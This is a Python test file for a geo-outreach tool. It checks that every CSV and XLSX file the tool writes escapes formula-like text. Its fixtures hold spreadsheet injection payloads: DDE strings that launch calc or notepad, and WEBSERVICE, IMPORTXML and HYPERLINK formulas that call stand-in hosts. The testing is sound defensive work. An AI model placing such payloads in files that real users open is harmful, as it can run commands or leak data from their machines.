"""
No text cell the tool writes can run as a formula in Excel or LibreOffice.

Names that begin like a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return) are
put into every text a user's files can bring: village, kapanewon, office name, its note and
address, a participation row, a household id, a field submission. Then every command that
writes a CSV or XLSX file runs as a user would run it (``analyze``, ``validate``,
``routes``, ``outcomes import --rejects``, ``outcomes report``, ``place``, ``progress``), and
the app's downloads are built; every cell of every file written is looked at:

- a CSV field that begins like a formula must carry the leading apostrophe (numbers alone,
  such as a negative latitude, are no formula);
- no XLSX cell is a formula; names are stored as text, exactly as typed.

A source check keeps every writer on the one helper (:mod:`geo_outreach.spreadsheet`).
"""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from geo_outreach.cli import main
from geo_outreach.escape import FORMULA_STARTS, spreadsheet_safe
from geo_outreach.inputs import bundled
from geo_outreach.spreadsheet import csv_bytes, safe_table, workbook_bytes
from geo_outreach.store.database import open_store
from geo_outreach.store.field_records import stored_plans
from tests.outcome_builders import Visit, central_csv, uuid

ROOT = Path(__file__).resolve().parents[1]

VILLAGE = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
DISTRICT = "+cmd|' /C calc'!A0"
OFFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "-2+3+cmd|' /C notepad'!A0"
ADDRESS = "\t=1+1"
UNMATCHED = '=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")'
HOUSEHOLD_ID = '=WEBSERVICE("http://x.invalid")'
CR_NAME = "\r=2*3"
PAYLOADS = (VILLAGE, DISTRICT, OFFICE, NOTE, ADDRESS, UNMATCHED, HOUSEHOLD_ID, CR_NAME)
NUMBERS_ALONE = re.compile(r"[+-]?\d+(?:\.\d+)?(?: [+-]?\d+(?:\.\d+)?)*")
MONDAY = "2026-12-07"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Kota Yogyakarta's files with a formula-like text in every name a user brings."""
    folder = tmp_path_factory.mktemp("hostile")
    villages = bundled.read_units("villages")
    kota = villages[villages["regency_code"] == "34.71"].copy()
    renamed = {kota.index[0]: VILLAGE, kota.index[7]: CR_NAME}
    for index, name in renamed.items():
        kota.loc[index, "name"] = name
    kota.loc[kota["district"] == kota["district"].iloc[0], "district"] = DISTRICT
    boundaries = folder / "batas.geojson"
    gpd.GeoDataFrame(kota[["code", "name", "district", "regency", "geometry"]],
                     geometry="geometry", crs=kota.crs).to_file(boundaries, driver="GeoJSON")

    table = pd.read_csv(bundled.BUNDLED_DIR / "demo_participation.csv", dtype=str)
    table = table[table["kode_wilayah"].str.startswith("34.71.")].drop(columns="sumber")
    names = dict(zip(kota["code"], kota["name"], strict=True))  # matched by code; the CR
    names = {code: name for code, name in names.items() if name != CR_NAME}  # name in one file
    table["kalurahan"] = table["kode_wilayah"].map(names).fillna(table["kalurahan"])
    extra = table.iloc[[0]].assign(kode_wilayah="", kalurahan=UNMATCHED)
    participation = folder / "peserta.csv"
    pd.concat([table, extra]).to_csv(participation, index=False)

    offices = folder / "kantor.csv"
    pd.DataFrame({"office_id": ["KC-YGY"], "name": [OFFICE], "office_type": ["KC"],
                  "lat": [-7.78305], "lon": [110.38344], "location_note": [NOTE],
                  "address": [ADDRESS]}).to_csv(offices, index=False)

    households = folder / "rumah_tangga.csv"
    points = kota.to_crs("EPSG:32749").geometry.representative_point().to_crs("EPSG:4326")
    rows = [{"id": f"{HOUSEHOLD_ID}{n}", "lat": point.y, "lon": point.x, "workers": 2,
             "registered": n % 2} for n, point in enumerate(points)]
    rows.append({"id": HOUSEHOLD_ID, "lat": "=1+1", "lon": 110.37, "workers": 1,
                 "registered": 0})
    pd.DataFrame(rows).to_csv(households, index=False)
    return {"boundaries": boundaries, "participation": participation, "offices": offices,
            "households": households, "folder": folder}


def _inputs(files: dict[str, Path]) -> list[str]:
    return ["--boundaries", str(files["boundaries"]), "--participation",
            str(files["participation"]), "--offices", str(files["offices"])]


@pytest.fixture(scope="module")
def written(hostile: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every command's outputs, written from the hostile files into one folder tree."""
    out = tmp_path_factory.mktemp("outputs")
    database = f"sqlite:///{out / 'store.db'}"
    cli = _InProcess()
    inputs = _inputs(hostile)
    cli.run("analyze", *inputs, "--households", str(hostile["households"]),
               "--out", str(out / "analyze"))
    cli.run("validate", *inputs, "--out", str(out / "validate"), expect=(0, 1))
    cli.run("routes", *inputs, "--office", "KC-YGY", "--teams", "2", "--days", "2",
               "--top", "4", "--time-limit", "1", "--start-date", MONDAY,
               "--database", database, "--out", str(out / "routes"))
    stops = pd.read_csv(out / "routes" / "titik.csv", dtype=str, encoding="utf-8-sig")
    store = open_store(database)
    try:
        plan_id = str(stored_plans(store)["plan_id"].iloc[0])
    finally:
        store.close()
    first = stops.iloc[0]
    visits = [Visit(uuid(1), str(first["name"]), "terdaftar", workers_living=2,
                    workers_registered=1, segment="bpu", lat=float(first["lat"]),
                    lon=float(first["lon"]), plan_id=plan_id, note=VILLAGE,
                    team=int(first["tim"]), visited_on=MONDAY),
              Visit(uuid(2), CR_NAME, "terdaftar", workers_living=1, workers_registered=1,
                    segment="bpu", lat=None, lon=None, plan_id=VILLAGE, team=1,
                    visited_on=MONDAY)]
    export = central_csv(visits, hostile["folder"] / "kunjungan.csv")  # an input
    cli.run("outcomes", "import", str(export), "--by", OFFICE, "--database", database,
               "--rejects", str(out / "outcomes" / "ditolak.csv"))
    cli.run("outcomes", "report", "--office", "KC-YGY", *inputs, "--database", database,
               "--out", str(out / "report"))
    cli.run("place", *inputs, "--new", "2", "--out", str(out / "place"))
    cli.run("snapshot", "demo", "--database", database)
    cli.run("progress", "--boundaries", str(hostile["boundaries"]), "--offices",
               str(hostile["offices"]), "--database", database, "--out", str(out / "progress"))
    return out


class _InProcess:
    """Run the command line in-process (module-scoped fixtures cannot use capsys)."""

    def run(self, *argv: str, expect: tuple[int, ...] = (0,)) -> None:
        code = main(list(argv))
        assert code in expect, argv


def _csv_fields(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    first, _, rest = text.partition("\n")
    body = rest if first.startswith(("Rencana", "Plan")) and ";" not in first else text
    delimiter = ";" if body.partition("\n")[0].count(";") > body.partition("\n")[0].count(
        ",") else ","
    return [field for row in csv.reader(io.StringIO(body), delimiter=delimiter)
            for field in row]


def _live_csv_fields(path: Path) -> list[str]:
    return [field for field in _csv_fields(path)
            if field.startswith(FORMULA_STARTS) and not NUMBERS_ALONE.fullmatch(field)]


def _workbook_cells(path: Path) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_command_wrote_csv_and_xlsx_files(written: Path):
    folders = {path.parent.name for path in written.rglob("*.csv")}
    assert {"analyze", "validate", "routes", "outcomes", "report", "place",
            "progress"} <= folders
    books = {path.parent.name for path in written.rglob("*.xlsx")}
    assert {"routes", "report", "place", "progress"} <= books
    assert (written / "analyze" / "households_rejects.csv").is_file()


def test_no_csv_field_written_by_any_command_can_run_as_a_formula(written: Path):
    live = {str(path.relative_to(written)): found for path in sorted(written.rglob("*.csv"))
            if (found := _live_csv_fields(path))}
    assert live == {}


def test_no_xlsx_cell_written_by_any_command_is_a_formula(written: Path):
    formulas = {str(path.relative_to(written)): [cell.coordinate for cell in cells
                                                  if cell.data_type == "f"]
                for path in sorted(written.rglob("*.xlsx"))
                if (cells := _workbook_cells(path))}
    assert {name: found for name, found in formulas.items() if found} == {}


def test_the_payloads_reached_the_files_so_the_checks_are_not_empty(written: Path):
    fields = {field for path in written.rglob("*.csv") for field in _csv_fields(path)}
    joined = "\n".join(fields)
    for payload in (VILLAGE, DISTRICT, OFFICE, NOTE):
        assert any(field.startswith("'") and payload.strip() in field for field in fields), (
            payload)
    assert UNMATCHED in joined  # the match report names the row it could not match
    cells = [cell.value for path in written.rglob("*.xlsx") for cell in _workbook_cells(path)]
    assert VILLAGE in cells  # exactly as typed, a text cell
    assert DISTRICT in cells


def test_each_route_file_keeps_the_points_as_numbers(written: Path):
    stops = pd.read_csv(written / "routes" / "titik.csv", dtype=str, encoding="utf-8-sig")
    assert stops["geometry"].str.match(r"^-\d+\.\d+ \d+\.\d+ 0 0$").all()  # ODK reads these


def test_the_apps_downloads_keep_names_text(written: Path):
    villages = pd.read_csv(written / "analyze" / "villages.csv", dtype=str)
    table = villages[["code", "name", "district"]].map(
        lambda v: v[1:] if isinstance(v, str) and v.startswith("'") else v)
    assert VILLAGE in set(table["name"])
    text = csv_bytes(table).decode("utf-8-sig")
    assert not [f for f in csv.reader(io.StringIO(text)) for f in f
                if f.startswith(FORMULA_STARTS) and not NUMBERS_ALONE.fullmatch(f)]
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"prioritas": table})))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert VILLAGE in {cell.value for cell in cells}


@pytest.mark.parametrize("value", [*PAYLOADS, "-", "+62 812 3456", "-7.8 110.4 0 0", "Sleman"])
def test_the_one_rule(value: str):
    safe = spreadsheet_safe(value)
    if value.startswith(FORMULA_STARTS) and not NUMBERS_ALONE.fullmatch(value):
        assert safe == "'" + value
    else:
        assert safe == value
    assert spreadsheet_safe(safe) == safe  # applying it twice changes nothing more
    frame = safe_table(pd.DataFrame({"name": [value], "count": [-3]}))
    assert frame.loc[0, "name"] == safe
    assert frame.loc[0, "count"] == -3  # numbers stay numbers


WRITER_CALLS = ("to_csv", "to_excel", "writer", "DictWriter", "ExcelWriter")


def _writer_calls(path: Path) -> list[str]:
    """Calls in a module that write spreadsheet files other than through the helper."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    imports_workbook = any(isinstance(node, ast.ImportFrom) and node.module == "openpyxl"
                           and any(alias.name == "Workbook" for alias in node.names)
                           for node in ast.walk(tree))
    found = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
            continue
        name = node.func.attr
        receiver = ast.unparse(node.func.value)
        if name in ("to_csv", "to_excel", "ExcelWriter") or (
                name in ("writer", "DictWriter") and receiver == "csv"):
            found.append(f"{path.name}:{node.lineno} {receiver}.{name}")
        elif imports_workbook and name == "append" and node.args and isinstance(
                node.args[0], ast.List | ast.ListComp):
            found.append(f"{path.name}:{node.lineno} {receiver}.append (a worksheet row)")
    return found


def test_every_writer_goes_through_the_one_helper():
    sources = [*sorted((ROOT / "geo_outreach").rglob("*.py")), ROOT / "app.py",
               *sorted((ROOT / "app_pages").glob("*.py"))]
    helper = ROOT / "geo_outreach" / "spreadsheet.py"
    calls = [call for path in sources if path != helper for call in _writer_calls(path)]
    assert calls == []


def test_the_source_check_finds_a_writer(tmp_path: Path):
    module = tmp_path / "m.py"
    module.write_text("from openpyxl import Workbook\nimport csv\n"
                      "def f(t, s, h):\n    t.to_csv('x')\n    s.append([1])\n"
                      "    csv.writer(h)\n", encoding="utf-8")
    assert len(_writer_calls(module)) == 3
